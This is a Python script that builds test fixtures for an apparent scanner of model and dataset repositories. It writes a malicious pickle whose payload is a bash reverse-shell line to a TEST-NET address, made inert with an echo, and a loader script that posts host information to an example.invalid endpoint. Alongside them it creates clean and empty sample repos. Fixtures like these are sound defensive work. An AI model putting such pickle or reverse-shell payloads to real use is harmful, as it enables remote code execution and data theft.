"""Regenerate the checked-in mini repository tree under repo/.

Four tiny repos exercising the walker and the end-to-end pipeline:

  acme/evil-model     pickle with an os.system reverse-shell payload (inert:
                      the command is echo-only and the host is TEST-NET)
  acme/recon-dataset  loading script that gathers host info and posts it to
                      an example.invalid endpoint (never executed by tests)
  acme/clean-model    benign protocol-2 pickle plus a safetensors stub
  acme/empty-repo     README only

Run from the repository root:  python3 tests/fixtures/make_repo_fixtures.py
"""

import pickle
import shutil
from pathlib import Path

ROOT = Path(__file__).parent / "repo"

EVIL_PICKLE = b"cos\nsystem\n(S'echo poc: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\ntR."

RECON_SCRIPT = '''\
import subprocess

import requests


def collect():
    return subprocess.check_output(["echo", "uname -a"])


requests.post("https://hooks.example.invalid/intake", data=collect())
'''


def main() -> None:
    if ROOT.exists():
        shutil.rmtree(ROOT)

    evil = ROOT / "acme" / "evil-model"
    evil.mkdir(parents=True)
    (evil / "README.md").write_text("# evil-model\n\nFixture repo, do not load.\n")
    (evil / "model.pkl").write_bytes(EVIL_PICKLE)

    recon = ROOT / "acme" / "recon-dataset"
    recon.mkdir(parents=True)
    (recon / "README.md").write_text("# recon-dataset\n\nFixture repo.\n")
    (recon / "recon-dataset.py").write_text(RECON_SCRIPT)
    (recon / "data.csv").write_text("a,b\n1,2\n")

    clean = ROOT / "acme" / "clean-model"
    clean.mkdir(parents=True)
    (clean / "README.md").write_text("# clean-model\n\nFixture repo.\n")
    (clean / "model.pkl").write_bytes(
        pickle.dumps({"weights": [1.0, 2.0], "bias": 3}, protocol=2)
    )
    # 8-byte little-endian header length, then an empty JSON header
    (clean / "weights.safetensors").write_bytes(
        (2).to_bytes(8, "little") + b"{}"
    )

    empty = ROOT / "acme" / "empty-repo"
    empty.mkdir(parents=True)
    (empty / "README.md").write_text("# empty-repo\n")

    count = sum(1 for p in ROOT.rglob("*") if p.is_file())
    print(f"wrote {count} files under {ROOT}")


if __name__ == "__main__":
    main()
